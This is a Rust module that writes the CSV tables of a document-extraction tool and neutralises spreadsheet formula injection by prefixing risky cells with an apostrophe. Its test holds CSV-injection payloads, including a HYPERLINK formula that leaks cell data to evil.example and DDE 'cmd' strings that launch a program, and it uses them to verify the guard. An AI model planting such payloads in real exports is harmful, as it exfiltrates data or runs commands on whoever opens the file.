//! The CSV tables of SPEC §4: headers and one document's rows for each.
//!
//! Every CSV cell goes through [`encode_rows`], which is where spreadsheet formulas are
//! neutralised (see [`guard_formula`]).

use std::borrow::Cow;

use crate::document::Document;

/// The five CSV tables, in a fixed order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Table {
    Documents,
    Entities,
    Amounts,
    Dates,
    Facts,
}

impl Table {
    pub const ALL: [Table; 5] = [
        Table::Documents,
        Table::Entities,
        Table::Amounts,
        Table::Dates,
        Table::Facts,
    ];

    pub fn file_name(self) -> &'static str {
        match self {
            Table::Documents => "documents.csv",
            Table::Entities => "entities.csv",
            Table::Amounts => "amounts.csv",
            Table::Dates => "dates.csv",
            Table::Facts => "facts.csv",
        }
    }

    pub fn header(self) -> &'static [&'static str] {
        match self {
            Table::Documents => &[
                "doc_id",
                "path",
                "encoding",
                "script",
                "doc_date",
                "date_source",
                "chars",
                "entities",
                "amounts",
                "dates",
                "facts",
                "status",
                "error",
                "title",
                "source",
                "url",
            ],
            Table::Entities => &[
                "doc_id",
                "entity_id",
                "type",
                "name",
                "name_en",
                "mentions",
                "first_text",
                "first_start",
                "first_end",
            ],
            Table::Amounts => &[
                "doc_id",
                "kind",
                "text",
                "value",
                "max",
                "unit",
                "display",
                "qualifier",
                "role",
                "subject",
                "start",
                "end",
                "subject_id",
            ],
            Table::Dates => &[
                "doc_id",
                "kind",
                "text",
                "value",
                "end_value",
                "granularity",
                "relative",
                "start",
                "end",
            ],
            Table::Facts => &[
                "doc_id",
                "fact_id",
                "type",
                "subject",
                "object",
                "value",
                "unit",
                "display",
                "percent",
                "date",
                "evidence",
                "start",
                "end",
                "subject_id",
                "object_id",
            ],
        }
    }

    /// Columns that always hold a number (or nothing): written as they are, so a negative
    /// value (`-3.2`) stays a number in a spreadsheet. Every other column is text.
    pub fn numeric_columns(self) -> &'static [&'static str] {
        match self {
            Table::Documents => &["chars", "entities", "amounts", "dates", "facts"],
            Table::Entities => &["mentions", "first_start", "first_end"],
            Table::Amounts => &["value", "max", "start", "end"],
            Table::Dates => &["start", "end"],
            Table::Facts => &["value", "percent", "start", "end"],
        }
    }

    /// Columns that identify a row within a document, for `check` diffs.
    pub fn key_columns(self) -> &'static [&'static str] {
        match self {
            Table::Documents => &["doc_id"],
            // Not the ids: one new entity renumbers all later ones, which would show up as
            // a change to every row after it.
            Table::Entities => &["doc_id", "type", "name"],
            Table::Amounts => &["doc_id", "start", "end", "kind"],
            Table::Dates => &["doc_id", "start", "end", "kind"],
            Table::Facts => &["doc_id", "type", "start", "end"],
        }
    }
}

fn opt<T: ToString>(v: &Option<T>) -> String {
    v.as_ref().map(|x| x.to_string()).unwrap_or_default()
}

/// The rows of one document for `table`, as CSV cells.
pub fn rows(table: Table, doc: &Document) -> Vec<Vec<String>> {
    let id = || doc.id.clone();
    match table {
        Table::Documents => vec![vec![
            id(),
            doc.path.clone(),
            doc.encoding.clone(),
            if doc.status == crate::document::Status::Ok {
                doc.script.as_str().to_string()
            } else {
                String::new()
            },
            opt(&doc.doc_date),
            doc.date_source.as_str().to_string(),
            doc.chars.to_string(),
            doc.entities.len().to_string(),
            doc.amounts.len().to_string(),
            doc.dates.len().to_string(),
            doc.facts.len().to_string(),
            doc.status.as_str().to_string(),
            opt(&doc.error),
            opt(&doc.title),
            opt(&doc.source),
            opt(&doc.url),
        ]],
        Table::Entities => doc
            .entities
            .iter()
            .map(|e| {
                let first = e.mentions.first();
                vec![
                    id(),
                    e.id.clone(),
                    e.kind.as_str().to_string(),
                    e.name.clone(),
                    opt(&e.name_en),
                    e.mentions.len().to_string(),
                    first.map(|m| m.text.clone()).unwrap_or_default(),
                    first.map(|m| m.start.to_string()).unwrap_or_default(),
                    first.map(|m| m.end.to_string()).unwrap_or_default(),
                ]
            })
            .collect(),
        Table::Amounts => doc
            .amounts
            .iter()
            .map(|a| {
                vec![
                    id(),
                    a.kind.as_str().to_string(),
                    a.text.clone(),
                    opt(&a.value),
                    opt(&a.max),
                    opt(&a.unit),
                    opt(&a.display),
                    a.qualifier.as_str().to_string(),
                    opt(&a.role),
                    opt(&a.subject),
                    a.start.to_string(),
                    a.end.to_string(),
                    opt(&a.subject_id),
                ]
            })
            .collect(),
        Table::Dates => doc
            .dates
            .iter()
            .map(|d| {
                vec![
                    id(),
                    d.kind.as_str().to_string(),
                    d.text.clone(),
                    opt(&d.value),
                    opt(&d.end_value),
                    opt(&d.granularity),
                    d.relative.to_string(),
                    d.start.to_string(),
                    d.end.to_string(),
                ]
            })
            .collect(),
        Table::Facts => doc
            .facts
            .iter()
            .map(|f| {
                vec![
                    id(),
                    f.id.clone(),
                    f.kind.as_str().to_string(),
                    opt(&f.subject),
                    opt(&f.object),
                    opt(&f.value),
                    opt(&f.unit),
                    opt(&f.display),
                    opt(&f.percent),
                    opt(&f.date),
                    f.evidence.clone(),
                    f.start.to_string(),
                    f.end.to_string(),
                    opt(&f.subject_id),
                    opt(&f.object_id),
                ]
            })
            .collect(),
    }
}

/// The first characters that make a spreadsheet read a cell as a formula (or, for tab and
/// carriage return, hide what follows), per the OWASP rule on CSV injection.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as it can be opened in a spreadsheet: one that begins with `=`, `+`, `-`,
/// `@`, tab or carriage return gets a leading apostrophe (`=HYPERLINK(…)` becomes
/// `'=HYPERLINK(…)`), which LibreOffice and Excel show as text and never evaluate. Every
/// other cell is unchanged. JSON output keeps the exact text; `--raw-csv` turns this off.
pub fn guard_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// One document's rows for `table`, encoded as CSV bytes (no header). With
/// `formula_guard`, text columns are passed through [`guard_formula`]; numeric columns
/// ([`Table::numeric_columns`]) never are.
pub fn encode_rows(table: Table, doc: &Document, formula_guard: bool) -> Vec<u8> {
    let numeric: Vec<bool> = table
        .header()
        .iter()
        .map(|c| table.numeric_columns().contains(c))
        .collect();
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    for row in rows(table, doc) {
        let cells = row.iter().enumerate().map(|(i, cell)| {
            if formula_guard && !numeric.get(i).copied().unwrap_or(false) {
                guard_formula(cell)
            } else {
                Cow::Borrowed(cell.as_str())
            }
        });
        // Writing to a Vec cannot fail.
        let _ = w.write_record(cells.map(|c| c.into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::num::Num;

    #[test]
    fn formula_cells_become_text_and_numbers_stay_numbers() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=1+2",
            "+1+2",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2",
        ] {
            assert_eq!(guard_formula(payload), format!("'{payload}"));
        }
        assert_eq!(guard_formula("Scale AI"), "Scale AI");
        assert_eq!(guard_formula("'already quoted"), "'already quoted");
        assert_eq!(guard_formula(""), "");

        // A real document, with hostile text put into its cells.
        let pipeline = crate::Pipeline::new(crate::Config::default()).expect("pipeline");
        let mut doc = pipeline.process(&crate::Source::from_text(
            "x",
            "Acme Corp said its net loss was 3.2 mln dlrs. 腾讯亏损5亿元。",
        ));
        doc.id = "=cmd|'/C calc'!A0".into();
        let amount = doc.amounts.first_mut().expect("an amount");
        amount.text = "=HYPERLINK(\"http://x\",\"y\")".into();
        amount.value = Num::parse_decimal("-3.2");
        amount.unit = Some("@SUM(1+1)".into());
        let csv = String::from_utf8(encode_rows(Table::Amounts, &doc, true)).expect("utf-8");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv.as_bytes());
        let row = reader.records().next().expect("a row").expect("valid CSV");
        let header = Table::Amounts.header();
        let col = |name: &str| &row[header.iter().position(|h| *h == name).expect("column")];
        assert_eq!(col("doc_id"), "'=cmd|'/C calc'!A0");
        assert_eq!(col("text"), "'=HYPERLINK(\"http://x\",\"y\")");
        assert_eq!(col("unit"), "'@SUM(1+1)");
        assert_eq!(col("value"), "-3.2", "a negative number stays a number");
        // No text cell of any table can start a formula.
        for table in Table::ALL {
            let bytes = encode_rows(table, &doc, true);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(bytes.as_slice());
            for row in reader.records() {
                let row = row.expect("valid CSV");
                for (cell, name) in row.iter().zip(table.header()) {
                    if !table.numeric_columns().contains(name) {
                        assert!(!cell.starts_with(FORMULA_STARTS), "{name}: {cell}");
                    }
                }
            }
        }
        // Raw mode keeps the text.
        let raw = String::from_utf8(encode_rows(Table::Amounts, &doc, false)).expect("utf-8");
        assert!(raw.starts_with("=cmd"));
    }
}
